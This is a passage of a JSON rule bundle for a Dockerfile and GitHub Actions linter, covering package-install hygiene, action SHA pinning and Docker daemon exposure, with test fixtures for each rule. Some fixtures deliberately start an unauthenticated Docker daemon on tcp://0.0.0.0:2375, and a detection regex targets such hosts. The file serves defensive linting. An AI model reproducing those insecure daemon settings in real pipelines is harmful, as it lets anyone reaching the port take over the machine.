confirmation","severity":"low","subject":"command","when":{"properties":{"origin":{"const":"dockerfile"}}},"schema":{"allOf":[{"if":{"properties":{"name":{"enum":["apt-get","apt"]},"args":{"contains":{"enum":["install","upgrade","dist-upgrade","full-upgrade","remove","purge"]}}}},"then":{"$ref":"#/$defs/assumesYes"}},{"if":{"properties":{"name":{"enum":["yum","dnf","microdnf","tdnf"]},"args":{"contains":{"enum":["install","update","upgrade","remove","erase"]}}}},"then":{"$ref":"#/$defs/assumesYes"}},{"if":{"properties":{"name":{"const":"zypper"},"args":{"contains":{"enum":["install","in","update","up","remove","rm"]}}}},"then":{"properties":{"args":{"not":{"items":{"not":{"pattern":"^(-n|--non-interactive|-y|--no-confirm)$"}}}}}}}],"$defs":{"assumesYes":{"properties":{"args":{"not":{"items":{"not":{"pattern":"^(-[a-xzA-Z]*y[a-zA-Z]*|--yes|--assume-yes|-qq)$"}}}}}}}},"message":"`{{subject.name}}` is run without `-y`, so it stops to ask for confirmation, which a build cannot give: it aborts (or, with some tools, proceeds differently than expected). Add `-y` (zypper: `-n`).","rationale":"A Docker build has no terminal to answer prompts. Package managers that ask \\"Do you want to continue?\\" read end-of-file and abort the install, or the build only works while nothing new needs confirming and breaks later. Docker\'s best practices use `apt-get install -y`.","remediation":"```dockerfile\\nRUN apt-get update && apt-get install -y --no-install-recommends curl \\\\\\n && rm -rf /var/lib/apt/lists/*\\nRUN dnf install -y git && dnf clean all\\n```","references":[{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#apt-get"}],"params":{},"paramSchemas":{},"tests":[{"file":"Dockerfile","content":"FROM fedora:40\\nRUN dnf install git\\nRUN zypper install curl\\n","expect":[{"line":2,"column":1,"endLine":2,"endColumn":20},{"line":3,"column":1}]},{"file":"Dockerfile","content":"FROM debian:12\\nRUN apt-get update && apt-get -qy install --no-install-recommends git \\\\\\n && rm -rf /var/lib/apt/lists/*\\nFROM opensuse/leap:15.6\\nRUN zypper -n install curl\\n","expect":[]}],"source":"policies/dockerfile-hygiene/command-package-install-not-noninteractive.yaml"},{"id":"command-package-version-not-pinned","pack":"dockerfile-hygiene","title":"Package installed without a version","severity":"info","subject":"command","when":{"properties":{"origin":{"const":"dockerfile"}}},"schema":{"allOf":[{"if":{"properties":{"name":{"enum":["apt-get","apt"]},"args":{"contains":{"const":"install"}}}},"then":{"properties":{"args":{"items":{"not":{"pattern":"^[a-z0-9][a-z0-9.+-]*$","not":{"enum":["install"]}}}}}}},{"if":{"properties":{"name":{"const":"apk"},"args":{"contains":{"const":"add"}}}},"then":{"properties":{"args":{"items":{"not":{"pattern":"^[a-z0-9][a-z0-9.+_-]*$","not":{"enum":["add"]}}}}}}},{"if":{"properties":{"name":{"enum":["pip","pip3"]},"args":{"contains":{"const":"install"}}}},"then":{"properties":{"args":{"items":{"not":{"pattern":"^[A-Za-z0-9][A-Za-z0-9._-]*(\\\\[[A-Za-z0-9,._-]+\\\\])?$","not":{"anyOf":[{"enum":["install","pip","setuptools","wheel"]},{"pattern":"\\\\.(txt|in|whl|gz|zip|toml|cfg|py)$"}]}}}}}}},{"if":{"properties":{"name":{"enum":["npm","pnpm"]},"args":{"allOf":[{"contains":{"enum":["install","i","add"]}},{"contains":{"enum":["-g","--global"]}}]}}},"then":{"properties":{"args":{"items":{"not":{"pattern":"^(@[a-z0-9][a-z0-9._~-]*/)?[a-z0-9][a-z0-9._~-]*$","not":{"enum":["install","i","add"]}}}}}}}]},"message":"`{{value}}` is installed without a version, so each build may get a different one, and a rebuild to fix one thing can silently change another. Pin it (`{{value}}=1.2.3` for apt and apk, `{{value}}==1.2.3` for pip, `{{value}}@1.2.3` for npm).","rationale":"An unpinned package resolves to whatever the mirror offers at build time. Builds stop being reproducible, a rebuild for an unrelated change can pull in a new major version or a compromised release, and nobody can tell from the Dockerfile which version an image contains. Docker\'s best practices recommend version pinning; it also lets Dependabot or Renovate propose updates. This is informational: some teams deliberately take the distribution\'s current security release and rely on scanning instead.","remediation":"```dockerfile\\nRUN apt-get update \\\\\\n && apt-get install -y --no-install-recommends curl=8.5.0-2ubuntu10.6 \\\\\\n && rm -rf /var/lib/apt/lists/*\\nRUN pip install --no-cache-dir requests==2.32.3\\nRUN npm install -g typescript@5.6.3\\n```\\n\\nOr install from a lock file (`pip install -r requirements.txt` with hashes, `npm ci`).","references":[{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#apt-get"}],"params":{},"paramSchemas":{},"tests":[{"file":"Dockerfile","content":"FROM python:3.12-slim\\nRUN apt-get update && apt-get install -y --no-install-recommends git curl=7.88.1-10+deb12u8 \\\\\\n && rm -rf /var/lib/apt/lists/*\\nRUN pip install --no-cache-dir flask requests==2.32.3\\nRUN npm install -g typescript\\n","expect":[{"line":2,"column":1},{"line":4,"column":1},{"line":5,"column":1}]},{"file":"Dockerfile","content":"FROM alpine:3.20\\nRUN apk add --no-cache git=2.45.2-r0 \\"curl>8\\"\\nRUN pip install --no-cache-dir -r requirements.txt --upgrade pip\\nRUN npm install && npm install -g npm@10.9.0\\n","expect":[]}],"source":"policies/dockerfile-hygiene/command-package-version-not-pinned.yaml"},{"id":"command-run-cd","pack":"dockerfile-hygiene","title":"RUN changes directory with cd (use WORKDIR)","severity":"info","subject":"command","when":{"properties":{"origin":{"const":"dockerfile"}}},"schema":{"properties":{"name":{"not":{"const":"cd"}}}},"message":"`cd` in a RUN only lasts until the end of that RUN, so the next instruction silently runs somewhere else, and the Dockerfile is harder to follow. Use `WORKDIR /path` to change directory.","rationale":"Each RUN starts in the current WORKDIR; a `cd` changes directory for the rest of that one shell only. Chaining `cd` into long RUN lines hides where files are created and tempts later edits to assume the directory carried over. Docker\'s best practices recommend WORKDIR over `RUN cd \u2026 &&`. Informational: a `cd` into a temporary directory within one RUN is sometimes the clearest way.","remediation":"```dockerfile\\nWORKDIR /src/app\\nRUN make install\\n```","references":[{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#workdir"}],"params":{},"paramSchemas":{},"tests":[{"file":"Dockerfile","content":"FROM golang:1.23\\nCOPY . /src\\nRUN cd /src && go build -o /out/app ./cmd/app\\n","expect":[{"line":3,"column":1,"endLine":3,"endColumn":46}]},{"file":"Dockerfile","content":"FROM golang:1.23\\nWORKDIR /src\\nCOPY . .\\nRUN go build -o /out/app ./cmd/app\\n","expect":[]}],"source":"policies/dockerfile-hygiene/command-run-cd.yaml"},{"id":"command-sudo","pack":"dockerfile-hygiene","title":"sudo used in a Dockerfile RUN","severity":"low","subject":"command","when":{"properties":{"origin":{"const":"dockerfile"}}},"schema":{"properties":{"sudo":{"const":false},"name":{"not":{"const":"sudo"}}}},"message":"`sudo {{subject.name}}` in a Dockerfile: RUN already runs as the current USER, and sudo in the image gives every process that runs as that user a way to become root. Switch with `USER root` for the steps that need it and back to the unprivileged user afterwards.","rationale":"Build steps run as whatever USER is in effect, so sudo is never needed to build; keeping it in the image means it, and a sudoers entry, are present at run time, where they turn a compromise of the application user into root. sudo also has TTY and signal-forwarding behaviour that makes it unpredictable as PID 1. Docker\'s best practices advise against installing or using sudo in images.","remediation":"```dockerfile\\nUSER root\\nRUN apt-get update && apt-get install -y --no-install-recommends ca-certificates \\\\\\n && rm -rf /var/lib/apt/lists/*\\nUSER 10001\\n```\\n\\nIf something must switch user at run time, use `gosu` or `setpriv` in the entrypoint.","references":[{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#user"}],"params":{},"paramSchemas":{},"tests":[{"file":"Dockerfile","content":"FROM ubuntu:24.04\\nUSER ubuntu\\nRUN sudo apt-get update \\\\\\n && sudo -E apt-get install -y --no-install-recommends curl\\n","expect":[{"line":3,"column":1,"endLine":3,"endColumn":24},{"line":4,"column":2}]},{"file":"Dockerfile","content":"FROM ubuntu:24.04\\nUSER root\\nRUN apt-get update && apt-get install -y --no-install-recommends curl\\nUSER ubuntu\\n","expect":[]}],"source":"policies/dockerfile-hygiene/command-sudo.yaml"},{"id":"dockerfile-add-instead-of-copy","pack":"dockerfile-hygiene","title":"ADD used to copy local files (use COPY)","severity":"low","subject":"dockerfile.stage","schema":{"properties":{"instructions":{"items":{"not":{"required":["keyword","args"],"properties":{"keyword":{"const":"ADD"},"args":{"prefixItems":[{"not":{"pattern":{"$param":"specialSource"}}}]}}}}}}},"message":"This ADD in stage {{name}} copies local files; use COPY, which does only that, so nobody has to wonder whether a file will be fetched or unpacked. Write `COPY` with the same arguments.","rationale":"ADD does more than copy: it downloads URLs, clones Git repositories and unpacks local tar archives, and which of these happens depends on what the source turns out to be. COPY only copies, so the Dockerfile says exactly what it does. Docker\'s best practices and the CIS Docker Benchmark (4.9) recommend COPY for local files and ADD only for its special cases.","remediation":"```dockerfile\\nCOPY requirements.txt /app/\\nCOPY --chown=10001:10001 src/ /app/src/\\n```\\n\\nKeep ADD for unpacking a local archive (`ADD rootfs.tar.gz /`) or for a remote source with\\n`--checksum`.","references":[{"framework":"cis-docker","id":"1.6.0:4.9"},{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#add-or-copy"}],"params":{"specialSource":"^(https?://|git@|[a-z]+://)|\\\\.(tar|tar\\\\.gz|tgz|tar\\\\.bz2|tbz2?|tar\\\\.xz|txz|tar\\\\.zst)$"},"paramSchemas":{"specialSource":{"schema":{"type":"string","format":"regex","minLength":1},"description":"A first source that ADD does something special with: a URL or Git reference (judged by dockerfile-add-url-without-checksum) or a local archive that ADD unpacks."}},"tests":[{"file":"Dockerfile","content":"FROM python:3.12-slim\\nADD requirements.txt /app/\\nADD --chown=10001 src/ /app/src/\\n","expect":[{"line":2,"column":1,"endLine":2,"endColumn":27},{"line":3,"column":1}]},{"file":"Dockerfile","content":"FROM scratch\\nADD rootfs.tar.xz /\\nADD --checksum=sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef https://example.com/tool.tgz /tmp/\\nCOPY app /app\\n","expect":[]}],"source":"policies/dockerfile-hygiene/dockerfile-add-instead-of-copy.yaml"},{"id":"dockerfile-apt-lists-not-removed","pack":"dockerfile-hygiene","title":"apt package lists left in the image","severity":"info","subject":"dockerfile.stage","schema":{"properties":{"instructions":{"items":{"not":{"required":["keyword","args","flags"],"properties":{"keyword":{"const":"RUN"},"args":{"allOf":[{"contains":{"enum":["apt-get","apt"]}},{"contains":{"const":"install"}},{"not":{"contains":{"pattern":"^/var/lib/apt/lists"}}}]},"flags":{"not":{"required":["mount"],"properties":{"mount":{"contains":{"pattern":"target=/var/(lib|cache)/apt"}}}}}}}}}}},"message":"This RUN in stage {{name}} installs with apt but leaves `/var/lib/apt/lists` in the layer, adding tens of megabytes of stale package index to the image. End the same RUN with `&& rm -rf /var/lib/apt/lists/*`, or use a cache mount.","rationale":"The package lists that `apt-get update` downloads are only needed while installing. Left in the layer, they make the image larger and record an index that is out of date by the time the image runs. Removing them in the same RUN keeps them out of every layer; deleting them in a later RUN does not. Docker\'s best practices show the pattern.","remediation":"```dockerfile\\nRUN apt-get update \\\\\\n && apt-get install -y --no-install-recommends curl \\\\\\n && rm -rf /var/lib/apt/lists/*\\n```\\n\\nor, with BuildKit, keep the lists in a cache mount:\\n`RUN --mount=type=cache,target=/var/lib/apt,sharing=locked apt-get update && apt-get install -y curl`.","references":[{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#apt-get"}],"params":{},"paramSchemas":{},"tests":[{"file":"Dockerfile","content":"FROM debian:12\\nRUN apt-get update && apt-get install -y --no-install-recommends curl\\n","expect":[{"line":2,"column":1,"endLine":2,"endColumn":70}]},{"file":"Dockerfile","content":"# syntax=docker/dockerfile:1\\nFROM debian:12\\nRUN apt-get update && apt-get install -y --no-install-recommends curl \\\\\\n && rm -rf /var/lib/apt/lists/*\\nRUN --mount=type=cache,target=/var/lib/apt,sharing=locked \\\\\\n    apt-get update && apt-get install -y --no-install-recommends git\\n","expect":[]}],"source":"policies/dockerfile-hygiene/dockerfile-apt-lists-not-removed.yaml"},{"id":"dockerfile-apt-update-alone","pack":"dockerfile-hygiene","title":"Package index updated in a RUN of its own","severity":"low","subject":"dockerfile.stage","schema":{"properties":{"instructions":{"items":{"not":{"required":["keyword","args"],"properties":{"keyword":{"const":"RUN"},"args":{"allOf":[{"contains":{"enum":["apt-get","apt","apk"]}},{"contains":{"const":"update"}},{"not":{"contains":{"enum":["install","upgrade","dist-upgrade","full-upgrade","add"]}}}]}}}}}}},"message":"This RUN in stage {{name}} updates the package index without installing anything, so the layer is cached and later builds install from a stale index (old versions, or 404s). Update and install in one RUN: `RUN apt-get update && apt-get install -y \u2026 && rm -rf /var/lib/apt/lists/*`.","rationale":"Docker caches each instruction\'s layer by its text. A RUN that only runs `apt-get update` is reused as is on every later build, so an `apt-get install` in a following RUN works from whatever index was fetched the first time: it misses security updates or fails on packages the mirror has since removed. Docker\'s best practices and the CIS Docker Benchmark (4.7) ask that update instructions not be used alone.","remediation":"```dockerfile\\nRUN apt-get update \\\\\\n && apt-get install -y --no-install-recommends ca-certificates curl \\\\\\n && rm -rf /var/lib/apt/lists/*\\n```","references":[{"framework":"cis-docker","id":"1.6.0:4.7"},{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#apt-get"}],"params":{},"paramSchemas":{},"tests":[{"file":"Dockerfile","content":"FROM debian:12\\nRUN apt-get update\\nRUN apt-get install -y --no-install-recommends curl\\n","expect":[{"line":2,"column":1,"endLine":2,"endColumn":19}]},{"file":"Dockerfile","content":"FROM debian:12\\nRUN apt-get update && apt-get install -y --no-install-recommends curl \\\\\\n && rm -rf /var/lib/apt/lists/*\\nFROM alpine:3.20\\nRUN apk update && apk add git\\n","expect":[]}],"source":"policies/dockerfile-hygiene/dockerfile-apt-update-alone.yaml"},{"id":"dockerfile-maintainer-deprecated","pack":"dockerfile-hygiene","title":"MAINTAINER instruction is deprecated","severity":"info","subject":"dockerfile.stage","schema":{"properties":{"instructions":{"items":{"properties":{"keyword":{"not":{"const":"MAINTAINER"}}}}}}},"message":"MAINTAINER is deprecated and may be removed from Docker. Write the author as a label instead: `LABEL org.opencontainers.image.authors=\\"team@example.com\\"`.","rationale":"The MAINTAINER instruction has been deprecated since Docker 1.13 in favour of labels, which tools read in a standard way (the OCI `org.opencontainers.image.authors` annotation). BuildKit\'s MaintainerDeprecated check reports it.","remediation":"```dockerfile\\nLABEL org.opencontainers.image.authors=\\"platform-team@example.com\\"\\n```","references":[{"framework":"docker-build-check","id":"MaintainerDeprecated"},{"framework":"url","url":"https://docs.docker.com/reference/build-checks/maintainer-deprecated/"}],"params":{},"paramSchemas":{},"tests":[{"file":"Dockerfile","content":"FROM alpine:3.20\\nMAINTAINER Jane Doe <jane@example.com>\\n","expect":[{"line":2,"column":1,"endLine":2,"endColumn":11}]},{"file":"Dockerfile","content":"FROM alpine:3.20\\nLABEL org.opencontainers.image.authors=\\"jane@example.com\\"\\n","expect":[]}],"source":"policies/dockerfile-hygiene/dockerfile-maintainer-deprecated.yaml"},{"id":"dockerfile-multiple-cmd-entrypoint","pack":"dockerfile-hygiene","title":"Stage has more than one CMD, ENTRYPOINT or HEALTHCHECK","severity":"low","subject":"dockerfile.stage","schema":{"properties":{"instructions":{"allOf":[{"not":{"contains":{"required":["keyword"],"properties":{"keyword":{"const":"CMD"}}},"minContains":2}},{"not":{"contains":{"required":["keyword"],"properties":{"keyword":{"const":"ENTRYPOINT"}}},"minContains":2}},{"not":{"contains":{"required":["keyword"],"properties":{"keyword":{"const":"HEALTHCHECK"}}},"minContains":2}}]}}},"message":"Stage {{name}} has more than one CMD, ENTRYPOINT or HEALTHCHECK; only the last of each takes effect, so the earlier ones mislead whoever reads the file. Keep one of each.","rationale":"An image has a single CMD, ENTRYPOINT and HEALTHCHECK; each new one replaces the previous one in the same stage. Leftover instructions usually come from copy-paste or a merge and make a reader believe the container starts differently than it does. BuildKit\'s MultipleInstructionsDisallowed check reports them.","remediation":"```dockerfile\\nENTRYPOINT [\\"/app/server\\"]\\nCMD [\\"--port\\", \\"8080\\"]\\n```","references":[{"framework":"docker-build-check","id":"MultipleInstructionsDisallowed"},{"framework":"url","url":"https://docs.docker.com/reference/build-checks/multiple-instructions-disallowed/"}],"params":{},"paramSchemas":{},"tests":[{"file":"Dockerfile","content":"FROM node:22-slim AS app\\nCOPY . /app\\nCMD [\\"node\\", \\"/app/server.js\\"]\\nCMD [\\"node\\", \\"/app/worker.js\\"]\\n","expect":[{"line":1,"column":6,"endLine":1,"endColumn":18}]},{"file":"Dockerfile","content":"FROM node:22-slim AS build\\nCMD [\\"npm\\", \\"test\\"]\\n\\nFROM node:22-slim\\nHEALTHCHECK CMD [\\"node\\", \\"/app/health.js\\"]\\nCMD [\\"node\\", \\"/app/server.js\\"]\\n","expect":[]}],"source":"policies/dockerfile-hygiene/dockerfile-multiple-cmd-entrypoint.yaml"},{"id":"dockerfile-package-cache-kept","pack":"dockerfile-hygiene","title":"Package manager cache left in the image","severity":"info","subject":"dockerfile.stage","schema":{"properties":{"instructions":{"items":{"not":{"required":["keyword","args","flags"],"properties":{"keyword":{"const":"RUN"},"args":{"anyOf":[{"allOf":[{"contains":{"const":"apk"}},{"contains":{"const":"add"}},{"not":{"contains":{"const":"--no-cache"}}}]},{"allOf":[{"contains":{"enum":["pip","pip3"]}},{"contains":{"const":"install"}},{"not":{"contains":{"const":"--no-cache-dir"}}}]}]},"flags":{"not":{"required":["mount"],"properties":{"mount":{"contains":{"pattern":"type=cache"}}}}}}}}}}},"message":"This RUN in stage {{name}} leaves apk\'s or pip\'s download cache in the layer, adding size and nothing else to the image. Add `--no-cache` (apk) or `--no-cache-dir` (pip), or use a BuildKit cache mount.","rationale":"`apk add` keeps the package index under /var/cache/apk and pip keeps every downloaded wheel under ~/.cache/pip unless told not to. In an image these are dead weight (often tens of megabytes) and go stale immediately. Docker\'s best practices recommend keeping caches out of layers, either by not writing them or by using cache mounts, which persist between builds without entering the image.","remediation":"```dockerfile\\nRUN apk add --no-cache git=2.45.2-r0\\nRUN pip install --no-cache-dir -r requirements.txt\\n# or share the cache between builds without putting it in a layer:\\nRUN --mount=type=cache,target=/root/.cache/pip pip install -r requirements.txt\\n```","references":[{"framework":"url","url":"https://docs.docker.com/build/cache/optimize/#use-cache-mounts"},{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#run"}],"params":{},"paramSchemas":{},"tests":[{"file":"Dockerfile","content":"FROM python:3.12-alpine\\nRUN apk add git=2.45.2-r0\\nRUN pip install -r requirements.txt\\n","expect":[{"line":2,"column":1,"endLine":2,"endColumn":26},{"line":3,"column":1}]},{"file":"Dockerfile","content":"# syntax=docker/dockerfile:1\\nFROM python:3.12-alpine\\nRUN apk add --no-cache git=2.45.2-r0\\nRUN pip install --no-cache-dir -r requirements.txt\\nRUN --mount=type=cache,target=/root/.cache/pip pip install -r requirements-dev.txt\\n","expect":[]}],"source":"policies/dockerfile-hygiene/dockerfile-package-cache-kept.yaml"},{"id":"dockerfile-shell-form-cmd","pack":"dockerfile-hygiene","title":"CMD or ENTRYPOINT in shell form","severity":"low","subject":"dockerfile.stage","schema":{"properties":{"instructions":{"items":{"if":{"properties":{"keyword":{"enum":["CMD","ENTRYPOINT"]}}},"then":{"properties":{"form":{"const":"json"}}}}}}},"message":"This CMD or ENTRYPOINT in stage {{name}} uses shell form, so the program runs under `/bin/sh -c` and never receives `docker stop`\'s SIGTERM: it is killed after the timeout instead of shutting down cleanly. Write it as a JSON array, e.g. `CMD [\\"node\\", \\"server.js\\"]`.","rationale":"In shell form Docker runs `/bin/sh -c \\"<command>\\"`, so the shell is PID 1 and the application a child that does not get the signals sent to the container. Graceful shutdown, connection draining and flushing of writes are skipped, and a shell must exist in the image. BuildKit\'s JSONArgsRecommended check and Docker\'s best practices recommend the exec (JSON) form.","remediation":"```dockerfile\\nENTRYPOINT [\\"/usr/local/bin/app\\"]\\nCMD [\\"--port\\", \\"8080\\"]\\n```\\n\\nIf shell features are needed, use `exec` so the program replaces the shell:\\n`CMD [\\"/bin/sh\\", \\"-c\\", \\"exec node server.js --port \\\\\\"$PORT\\\\\\"\\"]`.","references":[{"framework":"docker-build-check","id":"JSONArgsRecommended"},{"framework":"url","url":"https://docs.docker.com/reference/build-checks/json-args-recommended/"},{"framework":"url","url":"https://docs.docker.com/reference/dockerfile/#shell-and-exec-form"}],"params":{},"paramSchemas":{},"tests":[{"file":"Dockerfile","content":"FROM node:22-slim\\nCOPY . /app\\nCMD node /app/server.js\\n","expect":[{"line":3,"column":1,"endLine":3,"endColumn":24}]},{"file":"Dockerfile","content":"FROM node:22-slim\\nCOPY . /app\\nENTRYPOINT [\\"node\\"]\\nCMD [\\"/app/server.js\\"]\\n","expect":[]}],"source":"policies/dockerfile-hygiene/dockerfile-shell-form-cmd.yaml"},{"id":"dockerfile-workdir-relative","pack":"dockerfile-hygiene","title":"WORKDIR is a relative path","severity":"low","subject":"dockerfile.stage","schema":{"properties":{"instructions":{"items":{"if":{"properties":{"keyword":{"const":"WORKDIR"}}},"then":{"properties":{"args":{"prefixItems":[{"pattern":"^(/|\\\\$|[A-Za-z]:[\\\\\\\\/])"}]}}}}}}},"message":"`WORKDIR {{value}}` is relative, so where it lands depends on the base image\'s working directory, which can change with an update of that image. Write an absolute path, e.g. `WORKDIR /app`.","rationale":"A relative WORKDIR is resolved against the previous working directory, which for the first one in a stage is whatever the base image set. When the base image changes its WORKDIR, files are copied and commands run somewhere else, with no change in this Dockerfile. BuildKit\'s WorkdirRelativePath check and Docker\'s best practices ask for absolute paths.","remediation":"```dockerfile\\nWORKDIR /app\\n```","references":[{"framework":"docker-build-check","id":"WorkdirRelativePath"},{"framework":"url","url":"https://docs.docker.com/reference/build-checks/workdir-relative-path/"},{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#workdir"}],"params":{},"paramSchemas":{},"tests":[{"file":"Dockerfile","content":"FROM node:22-slim\\nWORKDIR app\\nCOPY . .\\n","expect":[{"line":2,"column":9,"endLine":2,"endColumn":12}]},{"file":"Dockerfile","content":"FROM node:22-slim\\nARG APP_HOME=/srv/app\\nWORKDIR /app\\nWORKDIR ${APP_HOME}\\n","expect":[]}],"source":"policies/dockerfile-hygiene/dockerfile-workdir-relative.yaml"}],"source":"policies/dockerfile-hygiene"},{"id":"workflows","title":"GitHub Actions workflow security","description":"What GitHub\'s security hardening guidance, the OWASP Docker Security Cheat Sheet\'s supply-chain rule and OpenSSF Scorecard ask of GitHub Actions workflows and composite actions: actions and reusable workflows pinned to immutable commits, and the jobs that build and run containers kept from trusting what they should not.","version":"0.1.0","rules":[{"id":"action-not-pinned","pack":"workflows","title":"Action or reusable workflow not pinned to a commit SHA","severity":"medium","subject":"action-ref","when":{"properties":{"isLocal":{"const":false},"isDocker":{"const":false}},"not":{"required":["owner"],"properties":{"owner":{"enum":{"$param":"exemptOwners"}}}}},"schema":{"properties":{"isSha":{"const":true}}},"message":"`{{subject.uses}}` points at a tag or branch, which its owner (or whoever compromises the repository) can move to different code that then runs with this job\'s token and secrets. Pin the full 40-character commit SHA and keep the version in a comment, e.g. `uses: actions/checkout@<sha> # v4.2.2`.","rationale":"A tag such as `v4` or a branch such as `main` is a mutable pointer: the next run fetches whatever commit it points to at that moment, so one compromised or careless upstream release reaches every workflow that uses it, with access to its `GITHUB_TOKEN`, its secrets and the code it builds and publishes (as in the tj-actions/changed-files compromise of 2025). A full commit SHA is the only immutable reference GitHub accepts. GitHub\'s security hardening guide and the OWASP cheat sheet\'s supply-chain rule recommend pinning; OpenSSF Scorecard scores it. Teams that trust GitHub\'s own actions may exempt their owners with the `exemptOwners` parameter, e.g. `[actions, github]`.","remediation":"Replace the tag with the commit it currently resolves to and keep the tag as a comment, so that\\nDependabot or Renovate can propose updates:\\n\\n```yaml\\nsteps:\\n  - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2\\njobs:\\n  release:\\n    uses: example/shared-workflows/.github/workflows/release.yml@<40-hex sha> # v1.3.0\\n```\\n\\nEnable Dependabot for `package-ecosystem: github-actions` so pinned actions are kept current.","references":[{"framework":"owasp-docker","id":"RULE #13"},{"framework":"url","url":"https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#using-third-party-actions"}],"params":{"exemptOwners":[]},"paramSchemas":{"exemptOwners":{"schema":{"type":"array","items":{"type":"string","minLength":1}},"description":"Owners (as written in `uses:`, case-sensitive) whose actions need no SHA pin, e.g. [actions, github]. The default exempts nobody."}},"tests":[{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  build:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: actions/checkout@v4\\n      - uses: actions/setup-node@1d0ff469b7ec7b3cb9d8673fde0c81c44821de2a # v4.2.0\\n      - name: Lint\\n        uses: \\"github/super-linter/slim@main\\"\\n      - uses: docker/build-push-action@11bd719\\n      - uses: ./.github/actions/setup\\n      - uses: docker://alpine:3.20\\n","expect":[{"line":6,"column":9,"endLine":6,"endColumn":34},{"line":9,"column":9},{"line":10,"column":9}]},{"file":".github/workflows/release.yml","content":"on:\\n  push:\\n    tags: [\\"v*\\"]\\njobs:\\n  shared:\\n    uses: example/shared-workflows/.github/workflows/release.yml@v1\\n    secrets: inherit\\n  local:\\n    uses: ./.github/workflows/build.yml\\n  pinned:\\n    uses: example/shared-workflows/.github/workflows/scan.yml@0123456789abcdef0123456789abcdef01234567\\n","expect":[{"line":6,"column":5}]},{"file":".github/workflows/ci.yml","content":"on: pull_request\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683\\n      - uses: ./\\n      - uses: docker://ghcr.io/example/linter:2.0.0\\n      - run: npm test\\n","expect":[]},{"file":"action.yml","content":"name: Setup\\ndescription: Sets up the toolchain\\nruns:\\n  using: composite\\n  steps:\\n    - uses: actions/cache@v4\\n      with:\\n        path: ~/.npm\\n        key: npm\\n    - uses: actions/setup-node@1d0ff469b7ec7b3cb9d8673fde0c81c44821de2a\\n    - run: npm ci\\n      shell: bash\\n","expect":[{"line":6,"column":7}]}],"source":"policies/workflows/action-not-pinned.yaml"},{"id":"command-docker-daemon-tcp-without-tls","pack":"workflows","title":"Docker daemon reached or exposed over plain TCP in a script","severity":"high","subject":"command","when":{"properties":{"origin":{"enum":["workflow","action"]}}},"schema":{"properties":{"env":{"properties":{"DOCKER_HOST":{"not":{"pattern":{"$param":"plaintextHost"}}}}},"docker":{"properties":{"globalFlags":{"properties":{"host":{"items":{"not":{"pattern":{"$param":"plaintextHost"}}}}}}}}},"if":{"properties":{"name":{"const":"dockerd"}}},"then":{"properties":{"args":{"items":{"not":{"pattern":{"$param":"plaintextHost"}}}}}}},"message":"This script talks to (or starts) a Docker daemon on plain TCP port 2375: that API has no authentication, so anything that can reach the port can start a privileged container and own the machine. Use the local socket, or `tcp://\u2026:2376` with `--tlsverify` and client certificates.","rationale":"The Docker API is root-equivalent. On the Unix socket it is protected by file permissions; on TCP without TLS it is open to every process and host that can reach the port, with no authentication, and traffic can be read or altered in transit. Exposed daemons on 2375 are actively scanned for and turned into crypto-miners within minutes. Docker\'s documentation and the OWASP cheat sheet (rule 1) require TLS with client certificates (port 2376) or SSH when the daemon must be reached remotely.","remediation":"Keep using the local socket, or protect the TCP endpoint:\\n\\n```yaml\\n- run: docker --tlsverify -H tcp://docker.example.com:2376 ps\\n  env:\\n    DOCKER_CERT_PATH: ${{ runner.temp }}/docker-certs\\n```\\n\\nFor remote builders, `DOCKER_HOST=ssh://deploy@builder.example.com` uses SSH instead.","references":[{"framework":"owasp-docker","id":"RULE #1"},{"framework":"url","url":"https://docs.docker.com/engine/security/protect-access/"}],"params":{"plaintextHost":"^(--host=|-H)?tcp://[^\\\\s/:]*(:2375)?/?$"},"paramSchemas":{"plaintextHost":{"schema":{"type":"string","format":"regex","minLength":1},"description":"A Docker host on TCP without TLS: port 2375, or no port (which the CLI also resolves to 2375)."}},"tests":[{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  e2e:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          sudo dockerd -H unix:///var/run/docker.sock -H tcp://0.0.0.0:2375 &\\n          DOCKER_HOST=tcp://127.0.0.1:2375 docker ps\\n          docker -H tcp://10.0.0.5 info\\n","expect":[{"line":7,"column":11,"endLine":7,"endColumn":78},{"line":8,"column":11},{"line":9,"column":11}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  e2e:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          docker --tlsverify -H tcp://docker.example.com:2376 ps\\n          DOCKER_HOST=ssh://deploy@builder.example.com docker info\\n","expect":[]}],"source":"policies/workflows/command-docker-daemon-tcp-without-tls.yaml"},{"id":"command-docker-exec-privileged","pack":"workflows","title":"docker exec runs privileged or as root","severity":"medium","subject":"command","when":{"required":["docker"],"properties":{"origin":{"enum":["workflow","action"]},"docker":{"properties":{"subcommand":{"const":"exec"}}}}},"schema":{"properties":{"docker":{"properties":{"flags":{"properties":{"privileged":{"items":{"not":{"enum":["true","1","t","T","TRUE","True"]}}},"user":{"items":{"not":{"pattern":{"$param":"rootUser"}}}}}}}}}},"message":"`docker exec` here runs with `{{key}}` set to `{{value}}`, handing the command more power than the container itself was given (every capability with `--privileged`, root with `-u root`). Run it as the container\'s own user and without `--privileged`.","rationale":"`docker exec --privileged` gives the new process every capability and device access even in a container that was started unprivileged, and `docker exec -u root` bypasses the container\'s non-root USER. Either undoes the hardening the container was started with, for a command that often processes untrusted input in CI. The CIS Docker Benchmark asks that exec commands not use the privileged option (5.23) or the root user (5.24).","remediation":"```yaml\\n- run: docker exec app ./manage.py migrate\\n```\\n\\nIf a task needs root, build it into the image or run a separate, short-lived container for 